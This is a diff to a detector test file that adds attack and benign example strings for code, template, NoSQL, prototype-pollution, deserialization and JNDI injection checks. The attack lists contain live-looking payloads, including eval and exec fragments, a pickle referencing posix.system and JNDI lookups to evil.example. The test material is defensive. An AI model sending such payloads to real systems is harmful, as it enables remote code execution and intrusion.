@@ -2,6 +2,16 @@ import { describeDetector } from './detector-cases';
 
 describeDetector('code_injection', {
   attacks: [
+    '\'.passthru("w").\'',
+    "';$g='a'.'b';",
+    'breakpoint()',
+    "Object.const_get('IO')",
+    '"b".send(:eval,"2")',
+    'open("|w").read',
+    '"w".execute().text',
+    'exec "/bin/ls","-l";',
+    "'+(function(){return 3}())+'",
+    '%{#b=2,#b+2}',
     '<?php echo 1;',
     '<?= `id` ?>',
     'phpinfo()',
@@ -44,6 +54,9 @@ describeDetector('code_injection', {
     { text: '<!--#include virtual="/a" -->', source: 'header', name: 'x-data' },
   ],
   benign: [
+    'breakpoint 768px',
+    'send(:x) or not',
+    'exec "summary"',
     'phpinfo',
     'systems()',
     'checkdate',
@@ -77,6 +90,10 @@ describeDetector('code_injection', {
 
 describeDetector('template_injection', {
   attacks: [
+    '{%= 6*6 %}',
+    '{{ .Run "id" }}',
+    '{{ template "x" }}',
+    '#{facesContext.externalContext.response}',
     '{{7*7}}',
     '{{ 7 * 7 }}',
     '${7*7}',
@@ -104,6 +121,8 @@ describeDetector('template_injection', {
     { text: '/hello/%7B%7B7*7%7D%7D', source: 'path' },
   ],
   benign: [
+    '{{ .Title }}',
+    '{{t "greeting"}}',
     'Hello {{name}}',
     '{{ user.first_name }}',
     '${workspaceFolder}',
@@ -126,6 +145,8 @@ describeDetector('template_injection', {
 
 describeDetector('nosql_injection', {
   attacks: [
+    "b'; tojson(this); '",
+    "return Object.keys(this)[1].match('^b')",
     { text: 'x', name: 'user[$ne]' },
     { text: '', name: 'user[$gt]' },
     { text: '{"$gt":""}' },
@@ -140,6 +161,8 @@ describeDetector('nosql_injection', {
     { text: 'x', source: 'body', name: '$ne' },
   ],
   benign: [
+    'this. is. great; return policy (30 days)',
+    'it is true; return it',
     { text: '10', name: '$top' },
     { text: "Name eq 'x'", name: '$filter' },
     { text: '10', name: 'filter[price][gte]' },
@@ -155,6 +178,11 @@ describeDetector('nosql_injection', {
 
 describeDetector('prototype_pollution', {
   attacks: [
+    { text: '/__proto__/y' },
+    { text: '/constructor/prototype/y', source: 'body', name: 'path' },
+    { text: '__proto__', source: 'body' },
+    { text: 'Object.prototype.y=2' },
+    { text: "__defineSetter__('y')" },
     { text: 'x', name: '__proto__[a]' },
     { text: 'x', name: '__proto__.a' },
     { text: 'x', name: 'a[constructor][prototype][b]' },
@@ -163,10 +191,14 @@ describeDetector('prototype_pollution', {
     { text: 'x', source: 'body', name: '__proto__' },
   ].map((entry) =>
     entry.source === 'body'
-      ? { ...entry, text: '{"__proto__":{"a":1}}', name: 'x', source: 'body' as const }
+      ? entry.name === '__proto__'
+        ? { text: '{"__proto__":{"a":1}}', name: 'x', source: 'body' as const }
+        : { text: entry.text, name: entry.name ?? 'key', source: 'body' as const }
       : { text: entry.text, name: entry.name ?? 'q' },
   ),
   benign: [
+    '/docs/constructor/prototype-chain',
+    'Object.prototype explained',
     { text: 'constructor', name: 'name' },
     { text: 'x', name: 'constructor' },
     'prototype',
@@ -228,6 +260,11 @@ describeDetector('xml_injection', {
 
 describeDetector('deserialization', {
   attacks: [
+    'E:9:"Color:Red";',
+    'BAhbB286C0dhZGdldDA6CkBuYW1l',
+    'gANjcG9zaXgKc3lzdGVtCnEA',
+    "--- !ruby/class 'Kernel'",
+    '<java.util.TreeMap serialization="custom"/>',
     'O:8:"stdClass":1:{s:1:"a";i:2;}',
     'a:1:{i:0;O:1:"A":0:{}}',
     'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
@@ -241,6 +278,9 @@ describeDetector('deserialization', {
     { text: '{"@type":"java.lang.AutoCloseable"}', source: 'body', name: 'x' },
   ],
   benign: [
+    'java.util.TreeMap',
+    'BAhamas trip',
+    'gANjo',
     'a:1',
     'O:8',
     'wow!! python',
@@ -254,6 +294,8 @@ describeDetector('deserialization', {
 
 describeDetector('jndi', {
   attacks: [
+    '${lower:${upper:y}}',
+    '${log4j:configLocation}',
     '${jndi:ldap://evil.example/a}',
     '${${lower:j}ndi:ldap://evil.example/a}',
     '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
@@ -264,5 +306,12 @@ describeDetector('jndi', {
     { text: '/${jndi:dns://evil.example}', source: 'path' },
     { text: '${jndi:ldap://evil.example/a}', source: 'body', name: 'user' },
   ],
-  benign: ['${name}', '${a:b}', 'jndi tutorial', '$ {x: y}', { text: '${env.HOME}', source: 'body', name: 'x' }],
+  benign: [
+    'log4j: how to',
+    '${name}',
+    '${a:b}',
+    'jndi tutorial',
+    '$ {x: y}',
+    { text: '${env.HOME}', source: 'body', name: 'x' },
+  ],
 });
